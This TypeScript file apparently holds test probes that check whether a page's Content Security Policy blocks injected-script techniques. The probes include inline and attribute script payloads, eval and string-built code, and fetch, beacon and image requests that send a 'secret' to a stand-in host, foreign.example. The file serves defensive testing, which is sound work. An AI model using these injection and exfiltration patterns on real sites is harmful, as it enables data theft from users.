/** Something that an injected script would try. */
export interface Probe {
  name: string
  /** CSP directive whose violation is reported. */
  refusedBy: string
  /** Part of the served page. */
  html?: string
  /** Served as /probe.js. Marks the page with `data-broke` when it succeeds. */
  run: () => void
}

/** A document with nothing but the probe in it. */
export const probePage = ({ html = '' }: Probe) =>
  `<!doctype html><html><title>Probe</title><body>${html}<main></main><script src="/probe.js"></script></body></html>`

const nothing = () => {}

export const probes: Probe[] = [
  {
    name: 'a script in the page',
    refusedBy: 'script-src-elem',
    html: '<script>document.documentElement.dataset.broke = "yes"</script>',
    run: nothing,
  },
  {
    name: 'a handler in an attribute',
    refusedBy: 'script-src-attr',
    html: '<svg onload=\'document.documentElement.dataset.broke = "yes"\'></svg>',
    run: nothing,
  },
  {
    name: 'a script of another site',
    refusedBy: 'script-src-elem',
    html: '<script src="https://foreign.example/a.js"></script>',
    run: nothing,
  },
  {
    name: 'eval',
    refusedBy: 'require-trusted-types-for',
    run: () => {
      window.eval('document.documentElement.dataset.broke = "yes"')
    },
  },
  {
    name: 'a function made of a string',
    refusedBy: 'require-trusted-types-for',
    run: () => {
      // oxlint-disable-next-line no-new-func, no-implied-eval -- the probe tries it
      const made = new Function('document.documentElement.dataset.broke = "yes"')
      Reflect.apply(made, undefined, [])
    },
  },
  {
    name: 'a timer with a string',
    refusedBy: 'require-trusted-types-for',
    run: () => {
      Reflect.apply(window.setTimeout, window, ['document.documentElement.dataset.broke = "yes"'])
    },
  },
  {
    name: 'markup from a string',
    refusedBy: 'require-trusted-types-for',
    run: () => {
      document.body.innerHTML = '<b>other</b>'
      if (document.querySelector('b')) document.documentElement.dataset['broke'] = 'yes'
    },
  },
  {
    name: 'the address of a script from a string',
    refusedBy: 'require-trusted-types-for',
    run: () => {
      const script = document.createElement('script')
      script.addEventListener('load', () => (document.documentElement.dataset['broke'] = 'yes'))
      script.src = '/loaded.js'
      document.head.append(script)
    },
  },
  {
    name: 'a policy of its own',
    refusedBy: 'trusted-types',
    run: () => {
      const { trustedTypes } = window
      trustedTypes?.createPolicy('other', { createScriptURL: (url) => url })
      document.documentElement.dataset['broke'] = 'yes'
    },
  },
  {
    name: 'a worker made of a string',
    refusedBy: 'require-trusted-types-for',
    run: () => {
      const code = new Blob(['postMessage("")'], { type: 'text/javascript' })
      const worker = new Worker(URL.createObjectURL(code))
      worker.onmessage = () => (document.documentElement.dataset['broke'] = 'yes')
    },
  },
  {
    name: 'a request to another site',
    refusedBy: 'connect-src',
    run: () => {
      void fetch('https://foreign.example/take?secret')
    },
  },
  {
    name: 'a beacon to another site',
    refusedBy: 'connect-src',
    run: () => {
      navigator.sendBeacon('https://foreign.example/take', 'secret')
    },
  },
  {
    name: 'a picture of another site',
    refusedBy: 'img-src',
    run: () => {
      new Image().src = 'https://foreign.example/take?secret'
    },
  },
  {
    name: 'a style sheet of another site',
    refusedBy: 'style-src-elem',
    html: '<link rel="stylesheet" href="https://foreign.example/take?secret">',
    run: nothing,
  },
  {
    name: 'a frame',
    refusedBy: 'frame-src',
    run: () => {
      const frame = document.createElement('iframe')
      frame.src = 'https://foreign.example/'
      document.body.append(frame)
    },
  },
  {
    name: 'a plug-in',
    refusedBy: 'object-src',
    html: '<object data="https://foreign.example/a" type="text/html"></object>',
    run: nothing,
  },
  {
    name: 'a form that is sent as forms are',
    refusedBy: 'form-action',
    html: '<form action="/sign-in"><input name="password" value="secret"></form>',
    run: () => {
      // A page that is left before its `load` event never fires it.
      window.addEventListener('load', () => {
        setTimeout(() => document.querySelector('form')?.submit())
      })
    },
  },
  {
    name: 'another base for addresses',
    refusedBy: 'base-uri',
    html: '<base href="https://foreign.example/">',
    run: () => {
      if (!document.baseURI.endsWith('/probe')) document.documentElement.dataset['broke'] = 'yes'
    },
  },
  {
    name: 'a style in an attribute',
    refusedBy: 'style-src-attr',
    run: () => {
      const main = document.querySelector('main')
      main?.setAttribute('style', 'position: fixed')
      if (main && getComputedStyle(main).position === 'fixed') {
        document.documentElement.dataset['broke'] = 'yes'
      }
    },
  },
]
